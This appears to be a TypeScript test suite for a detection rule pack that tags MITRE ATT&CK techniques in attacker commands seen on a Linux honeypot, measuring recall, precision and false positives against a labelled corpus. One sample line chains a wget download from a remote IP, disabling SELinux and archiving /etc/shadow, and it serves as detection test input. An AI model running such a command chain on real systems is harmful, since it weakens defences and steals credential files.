// The shipped rule pack over the labelled command corpus (test/fixtures/ttp-corpus/): what
// attackers type on a Linux honeypot, each line with the ATT&CK techniques an analyst would tag,
// and ordinary administration for false positives. The thresholds sit just under what the pack
// measures today (docs/ttp-rules.md, bench/ttp-corpus.js), so a rule that breaks fails here.
import assert from 'node:assert/strict'
import {before, describe, it} from 'node:test'

import type {CorpusReport} from '../helpers/ttp-corpus.js'
import type {CompiledRule} from '../../src/ttp/rule-schema.js'

import {readCatalog} from '../../src/ttp/attack-catalog.js'
import {Matcher} from '../../src/ttp/matcher.js'
import {catalogInUse, loadRules} from '../../src/ttp/rule-loader.js'
import {evaluateCorpus, readBenign, readCorpus, techniquesOf} from '../helpers/ttp-corpus.js'

describe('the command rules over the labelled corpus', () => {
  let rules: readonly CompiledRule[] = []
  let matcher: Matcher
  let report: CorpusReport
  before(async () => {
    const loaded = await loadRules()
    assert.deepEqual(loaded.problems, [], 'the shipped pack loads without problems')
    rules = loaded.rules
    matcher = new Matcher(rules)
    report = evaluateCorpus(matcher, rules, await readCatalog(catalogInUse()))
  })

  it('is large and broad: at least 400 attacker commands over at least 80 current ATT&CK techniques, and 150 benign ones', async () => {
    const corpus = readCorpus()
    const techniques = new Set(corpus.flatMap((entry) => entry.expected))
    assert.ok(corpus.length >= 400, `${corpus.length} commands`)
    assert.ok(techniques.size >= 80, `${techniques.size} techniques`)
    assert.ok(readBenign().length >= 150, `${readBenign().length} benign commands`)
    assert.equal(new Set(corpus.map((entry) => entry.command)).size, corpus.length, 'no command twice')
    const catalog = await readCatalog(catalogInUse())
    for (const id of techniques) {
      const technique = catalog.technique(id)
      assert.ok(technique && !technique.revoked && !technique.deprecated, `${id} is not a current ATT&CK ${catalog.version} technique`)
    }
  })

  it('yields exactly the labelled techniques for the lines marked exact', () => {
    const exact = report.results.filter((result) => result.entry.exact)
    assert.ok(exact.length >= 100, `${exact.length} exact lines`)
    for (const {entry, found} of exact) assert.deepEqual(found, entry.expected, `commands.tsv line ${entry.line}: ${entry.command}`)
  })

  it('finds at least 97% of the labelled techniques with at least 96% precision, and at least 85% of each tactic', () => {
    const {total, tactics} = report
    assert.ok(total.recall >= 0.97, `recall ${total.recall} (${total.found} of ${total.labelled})`)
    assert.ok(total.precision >= 0.96, `precision ${total.precision} (${total.extra} extra)`)
    for (const tactic of tactics) {
      assert.ok(tactic.recall >= 0.85, `${tactic.tactic} ${tactic.name}: recall ${tactic.recall}`)
      assert.ok(tactic.precision >= 0.85, `${tactic.tactic} ${tactic.name}: precision ${tactic.precision}`)
    }
  })

  it('finds every labelled technique on at least 75% of its lines', () => {
    for (const [id, {found, labelled}] of report.techniques) assert.ok(found / labelled >= 0.75, `${id}: ${found} of ${labelled}`)
  })

  it('fires every command rule of the pack on some line of the corpus', () => {
    const fired = new Set(readCorpus().flatMap((entry) => matcher.hits('command', entry.command).map((hit) => hit.rule.id)))
    const silent = rules.filter((rule) => rule.field === 'command' && !fired.has(rule.id)).map((rule) => rule.id)
    assert.deepEqual(silent, [])
  })

  it('tags at most 12% of benign administration with anything but Discovery, and at most 22% at all', () => {
    const discovery = new Set(rules.flatMap((rule) => rule.emits.filter((emit) => emit.tactic === 'TA0007').map((emit) => emit.subTechnique ?? emit.technique)))
    const benign = report.benign
    const tagged = benign.filter((b) => b.techniques.length > 0)
    const beyondDiscovery = benign.filter((b) => b.techniques.some((id) => !discovery.has(id)))
    assert.ok(tagged.length / benign.length <= 0.22, `${tagged.length} of ${benign.length}: ${tagged.map((b) => b.command).join(' | ')}`)
    assert.ok(beyondDiscovery.length / benign.length <= 0.12, `${beyondDiscovery.length} of ${benign.length}: ${beyondDiscovery.map((b) => `${b.command} (${b.rules.join(', ')})`).join(' | ')}`)
  })

  it('names the rule, the field and what matched for every technique it finds', () => {
    const sample = 'cd /tmp; wget http://198.51.100.9/x.sh; setenforce 0; tar czf /tmp/.d.tgz /etc/shadow'
    const hits = matcher.hits('command', sample)
    for (const hit of hits) {
      assert.equal(hit.rule.field, 'command')
      assert.ok(sample.includes(hit.evidence), `${hit.rule.id}: evidence ${JSON.stringify(hit.evidence)}`)
    }

    const evidence = Object.fromEntries(hits.map((hit) => [hit.rule.id, hit.evidence]))
    assert.equal(evidence['defense-evasion.disable-security-tools'], 'setenforce 0')
    assert.equal(evidence['collection.archive'], 'tar czf /tmp/.d.tgz /etc/shadow')
    assert.deepEqual([...techniquesOf(matcher, sample).keys()].sort(), ['T1105', 'T1560.001', 'T1562.001', 'T1564.001'])
  })
})
